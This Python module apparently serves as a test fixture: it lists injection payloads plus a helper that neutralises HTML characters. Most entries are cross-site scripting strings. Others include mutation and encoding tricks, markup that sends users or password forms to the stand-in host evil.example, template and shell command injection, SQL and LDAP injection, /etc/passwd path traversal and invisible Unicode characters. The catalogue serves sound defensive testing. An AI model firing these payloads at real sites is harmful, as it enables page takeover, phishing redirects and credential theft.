"""What could be sent through an API to take over the page on which somebody reads about it.

Each payload that runs sets `top.owned`. ``where`` says in which place of a page without walls it runs by itself, with
no click: `text`, between tags; `"`, `'` and `bare`, in an attribute quoted like that; `script` and `style`, in such an
element. Payloads without a place need a click, another browser, another encoding or a script of the page that helps.
"""

from __future__ import annotations

from typing import NamedTuple

__all__ = ["PAYLOADS", "Payload", "harmless"]


class Payload(NamedTuple):
    text: str
    where: str = ""


_RUN = "top.owned=1"
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT\t>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src/onerror={_RUN}//",
    f"<IMG SRC=x:x ONERROR=\"{_RUN}\" alt='",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script xlink:href='data:text/javascript,{_RUN}'></script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributename=x>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x:x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<link rel=stylesheet href=x:x onerror={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"</title><script>{_RUN}</script>",
    f"</pre></code></table></details><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</textarea></select></option><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"--!><svg/onload={_RUN}><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"</svg></math><script>{_RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    f"<x style=animation-name:x onanimationstart={_RUN}></x><style>@keyframes x{{}}</style>",
    f"<body onload={_RUN}>",
)  # fmt: skip
_ATTRIBUTES = {
    '"': (f'"><script>{_RUN}</script>', f'" type=image src=x onerror={_RUN} x="', f'"/><svg/onload={_RUN}><a b="'),
    "'": (f"'><script>{_RUN}</script>", f"' type=image src=x onerror={_RUN} x='"),
    "bare": (f"x type=image src=x onerror={_RUN}", f"x><script>{_RUN}</script>"),
    "script": (f"</script><script>{_RUN}</script>", f"';{_RUN};'", f"'-({_RUN})-'"),
    "style": (f"</style><script>{_RUN}</script>", f"}}</style><img src=x onerror={_RUN}>{{"),
}
_OTHERS = (
    # Mutations: they run only after a script has read and written HTML again.
    f"<object data='x:x' onerror={_RUN}></object>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    # Things that fetch, lead away or change how the page works, though nothing of theirs runs.
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.example/a.css><link rel=dns-prefetch href=//evil.example>",
    "<link rel=prefetch href=//evil.example><link rel=icon href=//evil.example/i.png>",
    "<img src=//evil.example/i.png srcset='//evil.example/j.png 2x' loading=eager>",
    "<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>",
    '<p style="background:url(//evil.example/c);position:fixed;inset:0;z-index:9">',
    "<embed src=//evil.example/e><object data=//evil.example/o></object><frameset><frame src=//evil.example/f>",
    "<form action=//evil.example><button id=search>Go</button><input name=password></form>",
    "<button formaction=//evil.example form=filters>reset</button><input type=search id=search>",
    "<portal src=//evil.example></portal><fencedframe></fencedframe>",
    f"\\';{_RUN}//",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"javascript:{_RUN}//",
    f" \x01java\nscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"JaVaScRiPt://%0a{_RUN}",
    # Names that shadow what a script looks up.
    "<form id=filters name=documentElement><input name=querySelector></form><img id=location name=body>",
    "<a id=matches href=x:1><a id=matches name=value href=x:2><iframe name=top></iframe>",
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "filters", "routes", "overview", "search",
    # Template engines, shells, query languages and the like.
    "{{ 7*7 }}{% raw %}{# x #}${7*7}#{7*7}<%= 7*7 %>[[7*7]]@(7*7)*{7*7}",
    "{{constructor.constructor('top.owned=1')()}}{{self.__init__.__globals__}}",
    "$(touch /tmp/owned)`touch /tmp/owned`'; touch /tmp/owned; '\n--output /tmp/owned",
    "*)(uid=*))(|(uid=*' OR 1=1 --", "%s%n%x {0} {} $1 \\1 $& $`",
    # Within CSS and selectors; as a number, a path, a URL fragment.
    "\\3c script\\3e x\\00003csvg\\20onload\\3d top.owned\\3d 1", 'a"]:not(*){} x[y="', "</STYLE ><!--/*",
    "*/{}expression(1)",
    "../../../../etc/passwd%00.html", "#q=%3Cscript%3E&verdict=<b>&at=__proto__", "NaN", "-0", "1e999",
    # Encodings: UTF-7, overlong UTF-8 read as latin-1, entities, double encoding, escapes, half- and full-width.
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "\xc0\xbcscript\xc0\xbe\xe0\x80\xbcsvg/onload=1\xe0\x80\xbe",
    "&lt;script&gt;top.owned=1&lt;/script&gt;&#60;svg onload=1&#x3e;&amp;lt;",
    "%3Cscript%3Etop.owned=1%3C/script%3E%253Csvg%253E",
    "\\u003cscript\\u003etop.owned=1\\x3c/script\\x3e\\74svg\\76",
    "\uff1cscript\uff1etop.owned=1\uff1c/script\uff1e\u2039svg\u203a",
    # What people can't see, or see wrongly.
    "\u202e\u2066evil\u2069 \u202dabc\u202c \u061c\u200e\u200f right to left",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff soft\u00adhyphen \u180e\u3164\U000e0041 tag",
    "\x00\x01\x08\x0b\x0c\x1b[2J\x1b]0;owned\x07\x7f\x80\x85\x9f controls",
    "line\nfeed\rreturn\r\nboth\ttab\u2028line\u2029paragraph\x85next",
    "lone \ud800 surrogates \udfff\udc00\ud83d and \ufffe\uffff\ufdd0",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0335\u0336l\u0337\u0338g\u0315\u031bo" * 9,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\u05d0\u05d1\u05d2 \u4e2d\u6587",
    # Shapes: long without a space, many spaces, many lines, nothing at all.
    "A" * 1_500, "/a" * 500, " " * 200 + "x", "\n" * 20 + "x", "", " ", "'", '"', "`", "<", ">", "&", "\\", "</",
)  # fmt: skip

PAYLOADS: tuple[Payload, ...] = (
    *(Payload(text, "text") for text in _TAGS),
    *(Payload(text, where) for where, texts in _ATTRIBUTES.items() for text in texts),
    *(Payload(text) for text in _OTHERS),
)

_HARMLESS = str.maketrans({"<": "(", ">": ")", '"': "+", "'": "+", "&": "+"})


def harmless(text: str) -> str:
    """As long as ``text``, and of the same shape, but with nothing that HTML knows."""
    return text.translate(_HARMLESS)
